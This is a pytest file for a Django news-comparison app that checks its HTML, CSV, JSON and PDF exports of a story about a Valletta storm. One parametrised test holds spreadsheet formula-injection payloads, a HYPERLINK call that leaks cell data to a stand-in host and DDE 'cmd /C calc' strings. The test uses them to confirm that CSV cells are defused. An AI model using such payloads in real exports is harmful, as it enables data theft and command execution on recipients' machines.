"""The four exports, checked for content."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from itertools import combinations
from pathlib import Path

import pytest
from django.urls import reverse
from storm_story import HARBOUR, HARBOUR_WEDNESDAY, HEADLINE, build_storm_story

from compare.models import Article, Link, Story
from compare.services.ingest import ArticleInput, ingest

pytestmark = pytest.mark.django_db

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"


@pytest.fixture
def story() -> Story:
    story = Story.objects.create(title="Storm in Valletta", title_set_by_editor=True)
    for outlet, text in [
        (
            "Times of Malta",
            "Gale-force winds closed the harbour in Valletta on Tuesday. Ferries were cancelled.",
        ),
        ("MaltaToday", "Gale-force winds closed Valletta harbour on Tuesday. Schools stayed open."),
        ("TVM", "Valletta harbour was closed by gale-force winds on Tuesday. A <b>bold</b> claim was made."),
    ]:
        ingest(ArticleInput(text=text, outlet=outlet, url=f"https://example.org/{outlet}"), story=story)
    return story


def get(client, story, fmt, **params):
    return client.get(reverse("compare:story-export", args=[story.pk, fmt]), params)


def test_the_html_export_is_self_contained(client, story):
    left, right = Article.objects.order_by("id")[:2]
    response = get(client, story, "html", left=left.pk, right=right.pk)
    html = response.content.decode()
    assert response.status_code == 200
    assert re.search(
        rf'filename="story-{story.pk}-storm-in-valletta-\d{{4}}-\d{{2}}-\d{{2}}\.html"',
        response["Content-Disposition"],
    )
    assert "<style>" in html
    assert not re.search(r"<script|<link|src=|href=|@import|url\(|/static/", html, re.I)
    assert "Times of Malta and MaltaToday, side by side" in html
    assert "Coverage" in html and "Generated" in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_the_html_export_of_all_outlets(client, story):
    html = get(client, story, "html").content.decode()
    assert "Every outlet" in html
    assert html.count('class="article"') == 3


def test_the_csv_export_is_the_fact_matrix(client, story):
    response = get(client, story, "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "fact",
        "kind",
        "outlet_count",
        "label",
        "Times of Malta",
        "MaltaToday",
        "TVM",
        "conflicts",
    ]
    assert len(rows) > 2
    assert all(len(row) == 8 for row in rows)
    assert any("Ferries were cancelled." in row for row in rows)


def test_the_json_export_follows_the_schema(client, story):
    data = json.loads(get(client, story, "json").content)
    assert data["schema"] == "story-comparison/1"
    assert {a["outlet"] for a in data["articles"]} == {"Times of Malta", "MaltaToday", "TVM"}
    for fact in data["facts"]:  # the first version's fields, and those added since
        assert set(fact) == {"id", "kind", "outlets", "members", "label", "conflicts"}
    for link in data["links"]:
        assert link["kind"] in {"same", "partial"}
        assert set(link["a"]) == {"article", "sentence"}
        assert set(link) == {"a", "b", "kind", "score", "origin", "verdict", "conflicts"}


def test_the_json_export_holds_the_storys_facts_and_links(client, story):
    data = json.loads(get(client, story, "json").content)
    ids = {a["outlet"]: a["id"] for a in data["articles"]}
    members = {
        frozenset((m["article"], m["sentence"]) for m in fact["members"]): (
            fact["kind"],
            sorted(fact["outlets"]),
        )
        for fact in data["facts"]
    }
    # The harbour closure, told by all three; each outlet's second sentence alone.
    assert members == {
        frozenset((ids[o], 0) for o in ids): ("shared", sorted(ids)),
        **{frozenset({(ids[o], 1)}): ("unique", [o]) for o in ids},
    }
    links = {frozenset((e["article"], e["sentence"]) for e in (k["a"], k["b"])) for k in data["links"]}
    assert links == {frozenset({(ids[x], 0), (ids[y], 0)}) for x, y in combinations(sorted(ids), 2)}
    for article in data["articles"]:  # each sentence names the fact it belongs to
        for sentence in article["sentences"]:
            fact = next(f for f in data["facts"] if f["id"] == sentence["fact"])
            assert {"article": article["id"], "sentence": sentence["index"]} in fact["members"]
            assert sentence["unique"] == (fact["kind"] == "unique")


def test_the_pdf_export_holds_the_comparison(client, story):
    pypdf = pytest.importorskip("pypdf")
    response = get(client, story, "pdf")
    assert response.status_code == 200, response.content[:200]
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(response.content)).pages)
    assert "Storm in Valletta" in text
    assert "Coverage" in text


def test_an_unknown_format_is_a_404(client, story):
    assert get(client, story, "docx").status_code == 404


def test_export_story_command_writes_each_format(story, tmp_path):
    from django.core.management import call_command

    for fmt in ["html", "csv", "json", "pdf"]:
        path = tmp_path / f"out.{fmt}"
        call_command(
            "export_story", str(story.pk), "--format", fmt, "--output", str(path), stderr=io.StringIO()
        )
        assert path.stat().st_size > 100


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1 more ship sank off Gozo+cmd|' /C calc'!A0, the coastguard said.",
    "-2+3 people were hurt, officials said.",
    "@SUM(1+1)*cmd|' /C calc'!A0 was posted by the port authority on Tuesday.",
    "\t=1+1 was written on the placard.",
    "\r=1+1 was written on the placard.",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_csv_export_defuses_spreadsheet_formulas(client, formula):
    story = Story.objects.create(title="Formulas")
    for outlet, text in [("=cmd|'/C calc'!A0", formula), ("Plain outlet", "Officials met on Monday.")]:
        ingest(ArticleInput(text=text, outlet=outlet), story=story)
    response = get(client, story, "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'=cmd|'/C calc'!A0" in rows[0]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    stored = Article.objects.get(outlet__name__startswith="=").sentences.values_list("text", flat=True)
    risky = [text for text in stored if text.startswith(("=", "+", "-", "@"))]
    assert risky and all("'" + text in cells for text in risky)


@pytest.mark.parametrize("fmt", ["html", "csv", "json", "pdf"])
def test_a_story_over_the_export_limit_is_refused_with_a_message(client, story, settings, fmt):
    settings.MAX_EXPORT_SENTENCES = settings.MAX_PDF_EXPORT_SENTENCES = 5  # the story has 6
    response = get(client, story, fmt)
    assert response.status_code == 413
    message = response.content.decode()
    assert f"This story has 6 sentences; a {fmt.upper()} export from the web page is limited to 5." in message
    assert f"manage.py export_story {story.pk} --format {fmt}" in message


def test_the_pdf_limit_is_lower_than_the_others(client, story, settings):
    settings.MAX_PDF_EXPORT_SENTENCES = 5
    assert get(client, story, "pdf").status_code == 413
    assert get(client, story, "html").status_code == 200


def test_the_command_exports_a_story_over_the_web_limit(story, settings, tmp_path):
    from django.core.management import call_command

    settings.MAX_EXPORT_SENTENCES = 1
    call_command("export_story", str(story.pk), "--format", "csv", "--output", str(tmp_path / "out.csv"))
    assert (tmp_path / "out.csv").stat().st_size > 100


def test_exports_are_rate_limited_per_client(client, editor, story, settings):
    from django.test import Client

    settings.EXPORTS_PER_MINUTE = 3
    assert [get(client, story, "csv").status_code for _ in range(3)] == [200, 200, 200]
    refused = get(client, story, "csv")
    assert refused.status_code == 429
    assert "Too many exports in a minute" in refused.content.decode()
    assert 0 < int(refused["Retry-After"]) <= 60
    signed_in = Client()
    signed_in.force_login(editor)
    assert get(signed_in, story, "csv").status_code == 200  # another client counts on its own


@pytest.fixture
def storm() -> Story:
    return build_storm_story()


def test_csv_cells_hold_every_sentence_clearest_first_with_the_label_and_conflicts(client, storm):
    rows = list(
        csv.DictReader(io.StringIO(get(client, storm, "csv").content.decode("utf-8-sig"), newline=""))
    )
    harbour = next(row for row in rows if row["kind"] == "shared")
    assert harbour["label"] == HARBOUR
    assert harbour["Times of Malta"] == f"{HARBOUR}\n{HEADLINE}"  # body before headline, one a line
    assert harbour["MaltaToday"] == HARBOUR_WEDNESDAY
    assert harbour["conflicts"] == 'MaltaToday: Dates differ: "Tuesday" vs "Wednesday"'
    assert all(row["conflicts"] == "" for row in rows if row is not harbour)


def test_json_facts_carry_their_label_and_conflicts(client, storm):
    data = json.loads(get(client, storm, "json").content)
    assert data["schema"] == "story-comparison/1"
    ids = {a["outlet"]: a["id"] for a in data["articles"]}
    harbour = next(fact for fact in data["facts"] if fact["kind"] == "shared")
    label = harbour["label"]
    assert label["text"] == HARBOUR
    assert {"article": label["article"], "sentence": label["sentence"]} in harbour["members"]
    assert harbour["conflicts"] == [
        {
            "sentence": {"article": ids["MaltaToday"], "sentence": 2},
            "kind": "date",
            "a": "Tuesday",
            "b": "Wednesday",
            "message": 'Dates differ: "Tuesday" vs "Wednesday"',
        }
    ]
    assert all(fact["label"]["text"] for fact in data["facts"])


def _link(story: Story, *outlets: str) -> Link:
    return Link.objects.get(
        story=story, a__article__outlet__name__in=outlets, b__article__outlet__name__in=outlets, kind="same"
    )


def test_json_links_carry_origin_verdict_and_conflicts(editor_client, storm):
    wednesday = _link(storm, "Times of Malta", "MaltaToday")
    post = editor_client.post(reverse("compare:link-verdict", args=[wednesday.pk]), {"verdict": "confirmed"})
    assert post.status_code == 302
    links = json.loads(get(editor_client, storm, "json").content)["links"]
    by_pair = {frozenset((k["a"]["article"], k["b"]["article"])): k for k in links}
    confirmed = by_pair[frozenset((wednesday.a.article_id, wednesday.b.article_id))]
    assert (confirmed["origin"], confirmed["verdict"]) == ("machine", "confirmed")
    assert [c["message"] for c in confirmed["conflicts"]] == ['Dates differ: "Tuesday" vs "Wednesday"']
    others = [k for k in links if k is not confirmed]
    assert others and all((k["origin"], k["verdict"]) == ("machine", None) for k in others)


def test_html_export_ticks_the_links_an_editor_reviewed(editor_client, storm):
    times, today = (Article.objects.get(outlet__name=name) for name in ("Times of Malta", "MaltaToday"))
    editor_client.post(
        reverse("compare:link-verdict", args=[_link(storm, "Times of Malta", "MaltaToday").pk]),
        {"verdict": "confirmed"},
    )
    html = get(editor_client, storm, "html", left=times.pk, right=today.pk).content.decode()
    sentences = html.split('<span class="s ')[1:]
    reviewed = [s for s in sentences if s.startswith(("s-same s-reviewed", "s-partial s-reviewed"))]
    assert len(reviewed) == 2 and all("✓" in s and "Gale-force winds" in s for s in reviewed)
    assert 'title="Link checked by an editor"' in html
    # TVM's link to Times of Malta is the machine's: no tick in the all-outlets export for it alone.
    assert get(editor_client, storm, "html").content.decode().count(" s-reviewed") == 2


def _fragments(page) -> list[tuple[str, float, float]]:
    """(text, x, y) of every text run on a PDF page, in page coordinates (y grows upwards)."""
    runs: list[tuple[str, float, float]] = []

    def visit(text, cm, tm, font, size):
        if text.strip():
            x = tm[4] * cm[0] + tm[5] * cm[2] + cm[4]
            y = tm[4] * cm[1] + tm[5] * cm[3] + cm[5]
            runs.append((text, x, y))

    page.extract_text(visitor_text=visit)
    return runs


def _first_body_sentence(article: Article) -> str:
    return article.sentences.filter(kind="body").order_by("index").first().text


def test_the_pair_pdf_sets_the_two_seed_articles_side_by_side_from_page_one(client):
    pypdf = pytest.importorskip("pypdf")
    from django.core.management import call_command

    call_command("load_seeds", stdout=io.StringIO())
    story = Story.objects.get()
    new_arab, haaretz = (Article.objects.get(outlet__name=name) for name in ("The New Arab", "Haaretz"))
    response = get(client, story, "pdf", left=new_arab.pk, right=haaretz.pk)
    pages = pypdf.PdfReader(io.BytesIO(response.content)).pages
    width, height = float(pages[0].mediabox.width), float(pages[0].mediabox.height)
    assert width > height  # A4 landscape: two columns of readable width
    first = _fragments(pages[0])
    left = next((x, y) for text, x, y in first if _first_body_sentence(new_arab)[:40] in text)
    right = next((x, y) for text, x, y in first if _first_body_sentence(haaretz)[:40] in text)
    assert left[0] < width / 2 < right[0]  # one in each half of the page ...
    assert abs(left[1] - right[1]) < height / 3  # ... on the same part of it
    # No page holds only a title or a heading: each carries sentences.
    for page in pages:
        assert len([line for line in page.extract_text().splitlines() if line.strip()]) > 5
    # Headings stay with what they introduce: the matrix's heading shares its page with the table.
    texts = [page.extract_text() for page in pages]
    matrix_page = next(text for text in texts if "Facts and who reported them" in text)
    assert "Outlets" in matrix_page  # the table's header row
    assert len(pages) <= 8  # stacked, the two articles alone took pages 2-5 of 6
    _save_first_page_as_png(response.content, "export-01-pair-pdf-page-1")


def _save_first_page_as_png(pdf: bytes, name: str) -> None:
    """Page 1 as an image in test-artifacts/ to look at, where poppler's pdftoppm is installed."""
    if not shutil.which("pdftoppm"):
        return
    ARTIFACTS.mkdir(exist_ok=True)
    subprocess.run(
        ["pdftoppm", "-png", "-r", "110", "-f", "1", "-l", "1", "-singlefile", "-", str(ARTIFACTS / name)],
        input=pdf,
        check=True,
        timeout=60,
    )
